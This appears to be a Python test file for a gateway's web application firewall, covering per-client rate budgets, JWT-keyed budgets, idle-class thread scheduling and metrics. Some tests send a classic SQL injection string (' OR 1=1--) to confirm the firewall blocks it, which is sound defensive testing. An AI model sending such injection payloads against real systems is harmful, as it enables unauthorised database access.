        rid = x.header("x-request-id")
        got = gw.lines([rid])[rid]
        a = got["access"][0]
        eq((a["status"], a["waf"], a["error"], a["upstream"]),
           (429, "shed", "waf_shed", "-"), "the access line")
        eq([(w["action"], w["limit"], w["status"], w["retry_after"])
            for w in got["waf"]], [("refused", "queue_share", 429, 1)],
           "its WAF line")
    check("/pay/b" in gw.up.paths(), "the other client's went upstream")
    eq(len(gw.up.paths()), len(ok) + 1, "only the inspected went upstream")
    gw.counts({"pass": len(ok) + 1, "shed": len(shed)})
    gw.sl.stop()


@test
def a_client_past_its_budget_gets_429_another_does_not():
    """The budget of thread time per client (issue 63, item 1): with
    client_budget 20ms and client_burst 50ms, a client sending costly
    requests one after another is answered 429 waf_budget with a
    Retry-After once it owes thread time, at no thread's cost (no
    inspection counted for it); another client (address) is inspected
    as before."""
    require_waf()
    gw = start([waf_route("pay", "/pay", limits={"cookies": 0})],
               waf={"threads": 1, "client_budget": "20ms",
                    "client_burst": "50ms"})
    c = Client(gw.port, timeout=30)
    refused = None
    sent = 0
    for i in range(20):
        r = gw.send("GET", "/pay/a/%d" % i, heavy_cookie(600), client=c)
        sent += 1
        if r.status != 200:
            refused = r
            break
        gw.passed(r, "a/%d" % i)
    check(refused is not None, "a 429 once the client owes")
    assert_error(refused, 429, "waf_budget")
    ra = int(refused.header("retry-after"))
    check(1 <= ra <= 3, "Retry-After: the refill's wait (%d)" % ra)
    rid = refused.header("x-request-id")
    got = gw.lines([rid])[rid]
    a = got["access"][0]
    eq((a["status"], a["waf"], a["error"], a["upstream"]),
       (429, "budget", "waf_budget", "-"), "the access line")
    eq([(w["action"], w["limit"], w["status"], w["retry_after"])
        for w in got["waf"]], [("refused", "client_budget", 429, ra)],
       "its WAF line")
    eq(gw.inspections(), float(sent - 1), "the refused one cost no thread")
    # another client is not touched
    r = gw.send("GET", "/pay/b", heavy_cookie(600),
                client=Client(gw.port, timeout=30, src="127.0.0.2"))
    gw.passed(r, "another client's")
    gw.verify()
    gw.counts({"pass": sent, "budget": 1})
    check("route=pay: 429 waf: the client is past waf.client_budget" in
          gw.sl.stderr(), "the info line")
    gw.sl.stop()


@test
def client_key_caller_gives_each_token_its_own_budget():
    """client_key: caller: the budget is the verified token's (iss and
    sub), not the address: alice, past hers, gets 429 waf_budget; bob,
    from the same address, is inspected as before."""
    require_waf()
    from jwtkeys import AUD, ISS, Keys, bearer, claims, need_jwt
    need_jwt()
    k = Keys()
    kp = os.path.join(tmpdir(), "jwks.json")
    with open(kp, "w") as f:
        json.dump(k.jwks(), f)
    r = waf_route("pay", "/pay", limits={"cookies": 0})
    r["auth"] = {"jwt": {"keys": kp, "issuer": ISS, "audience": [AUD]}}
    gw = start([r], waf={"threads": 1, "client_budget": "20ms",
                         "client_burst": "50ms", "client_key": "caller"})

    def as_(who, i):
        h = dict(heavy_cookie(600))
        h.update(bearer(k.sign("ES256", claims(sub=who))))
        return gw.send("GET", "/pay/%s/%d" % (who, i), h)
    refused = None
    for i in range(20):
        x = as_("alice", i)
        if x.status != 200:
            refused = x
            break
        gw.passed(x, "alice %d" % i)
    check(refused is not None, "alice past her budget")
    assert_error(refused, 429, "waf_budget")
    gw.passed(as_("bob", 0), "bob, from the same address")
    gw.verify()
    gw.sl.stop()


@test
def a_busy_cpu_slows_idle_threads_but_times_none_out():
    """The idle class and its guard (issue 63, item 4): the WAF threads
    run at SCHED_IDLE, so that a CPU-bound job on the machine starves
    them; the guard (waf.guard 20ms) raises them back when a request
    waits past it. With a busy loop on every CPU, requests of 100 cookies
    (about 14 ms of a thread each: in the idle class alone, beside the
    loops, half a percent of a CPU, seconds, past the 3 s deadline) are
    every one answered 200, and the guard is seen to act. Skipped where the process may not raise a thread out of the idle
    class (no CAP_SYS_NICE, RLIMIT_NICE 0)."""
    require_waf()
    gw = start([waf_route("pay", "/pay", timeout="3s")],
               waf={"threads": 1, "guard": "20ms"})
    r = gw.send("GET", "/pay/v1/charges")
    gw.passed(r, "before")
    if waf_metric(gw, "sluice_waf_threads_idle_class") != 1:
        gw.sl.stop()
        raise Skip("the WAF threads cannot be raised out of the idle "
                   "class here (CAP_SYS_NICE, RLIMIT_NICE)")
    raised = waf_metric(gw, "sluice_waf_threads_raised_total")
    hogs = [subprocess.Popen(["/usr/bin/python3", "-c", "while True: pass"])
            for _ in range(len(os.sched_getaffinity(0)))]
    try:
        time.sleep(0.3)
        for i in range(5):
            t0 = time.monotonic()
            r = gw.send("GET", "/pay/v1/charges/%d" % i, heavy_cookie(100))
            sys.stdout.write("# %d: %d in %.3f s, hogs %s\n" % (
                i, r.status, time.monotonic() - t0,
                [h.poll() for h in hogs]))
            gw.passed(r, "beside the busy loops, %d" % i)
    finally:
        for h in hogs:
            h.kill()
            h.wait()
    # raised beside the busy loops, or already before them when other
    # work kept the CPUs busy (the raise then held while it was needed)
    check(waf_metric(gw, "sluice_waf_threads_raised_total") >= 1,
          "the guard raised the threads (%d before the busy loops)" % raised)
    gw.verify()
    gw.sl.stop()


# ---------------------------------------------------------------------------
# A route without waf; metrics


@test
def a_route_without_waf_on_the_same_listener_is_untouched():
    require_waf()
    gw = start([waf_route("pay", "/pay"),
                {"name": "open", "cluster": "pay"}])
    c = Client(gw.port)
    attack = "/v1/charges?id=1%27%20OR%201%3D1--"
    opened = []
    r = gw.send("GET", "/open" + attack, client=c)
    eq(r.status, 200, "the route without waf forwards it")
    opened.append(r.header("x-request-id"))
    gw.blocked(gw.send("GET", "/pay" + attack, client=c), "942",
               what="the WAF route, same connection")
    r = gw.send("GET", "/open" + attack, client=c)
    eq(r.status, 200, "the open route again")
    opened.append(r.header("x-request-id"))
    c.close()
    gw.verify()
    for rid, d in gw.lines(opened).items():
        eq(d["waf"], [], "no WAF line for the open route")
        check("waf" not in d["access"][0], "no waf field in its access "
              "line: %r" % d["access"][0])
        eq(d["access"][0]["route"], "open", "its route")
    eq(gw.up.paths(), ["/open" + attack] * 2, "upstream")
    m = metrics(gw.aport)
    eq([k for k in m if k.startswith("sluice_waf_") and
        'route="open"' in k], [], "no WAF metrics for the open route")
    gw.sl.stop()


@test
def metrics_count_each_result_and_time_each_inspection():
    require_waf()
    gw = start([waf_route("pay", "/pay"),
                waf_route("watch", "/watch", mode="detect"),
                waf_route("small", "/small", body_limit="1KiB")])
    attack = "/v1/charges?id=1%27%20OR%201%3D1--"
    eq(gw.send("GET", "/pay/v1/charges").status, 200, "pass")
    eq(gw.send("GET", "/pay" + attack).status, 403, "blocked")
    eq(gw.send("GET", "/watch" + attack).status, 200, "detected")
    eq(gw.send("POST", "/small/v1/upload", FORM_CT,
               b"a=" + b"b" * 2000).status, 413, "over_limit")
    gw.counts({"pass": 1, "blocked": 1}, route="pay")
    gw.counts({"detected": 1}, route="watch")
    gw.counts({"over_limit": 1}, route="small")
    m = metrics(gw.aport)
    for route, n in (("pay", 2), ("watch", 1), ("small", 0)):
        eq(metric_sum(m, "sluice_waf_inspect_seconds_count", listener="main",
                      route=route), n, "inspections timed on %s" % route)
        eq(metric_sum(m, "sluice_waf_inspect_seconds_bucket", route=route,
                      le="+Inf"), n, "the +Inf bucket of %s" % route)
    check(metric_sum(m, "sluice_waf_inspect_seconds_sum", route="pay") > 0,
          "the rules' time is summed")
    for k in ("sluice_waf_queue_waits_total",
              "sluice_waf_queue_wait_seconds_total",
              "sluice_waf_cpu_seconds_total"):
        check('%s{listener="main",route="pay"}' % k in m, "%s exported" % k)
    check(metric_sum(m, "sluice_waf_cpu_seconds_total", route="pay") > 0,
          "the threads' CPU on pay's requests")
    eq(metric_sum(m, "sluice_waf_cpu_seconds_total", route="small"), 0,
       "none on a body refused before the threads")
    eq(metric_sum(m, "sluice_waf_threads_busy"), 0, "no thread busy at rest")
    gw.sl.stop()


@test
def a_busy_thread_and_its_cpu_are_visible():
    """While a WAF thread runs a long inspection (1,500 cookies, a good
    part of a second), sluice_waf_threads_busy says 1, and once it is
    done 0, its CPU time added to the route's (issue 63: what a thread is
    doing is visible)."""
    require_waf()
    gw = start([waf_route("pay", "/pay", timeout="10s",
                          limits={"cookies": 0})],
               waf={"threads": 1})
    res = []
    th = threading.Thread(target=lambda: res.append(
        gw.send("GET", "/pay/v1/charges", heavy_cookie(1500),
                client=Client(gw.port, timeout=30))))
    th.start()
    seen = wait_until(lambda: metric_sum(metrics(gw.aport),
                                         "sluice_waf_threads_busy") == 1,
                      20, 0.005)
    th.join(30)
    check(seen, "the busy thread was never seen")
    eq(res[0].status, 200, "the request passed")
    m = metrics(gw.aport)
    eq(metric_sum(m, "sluice_waf_threads_busy"), 0, "idle again")
    check(metric_sum(m, "sluice_waf_cpu_seconds_total", route="pay") > 0.01,
          "its CPU counted: %r" % metric_sum(m, "sluice_waf_cpu_seconds_total",
                                             route="pay"))
    gw.sl.stop()


if __name__ == "__main__":
    main()
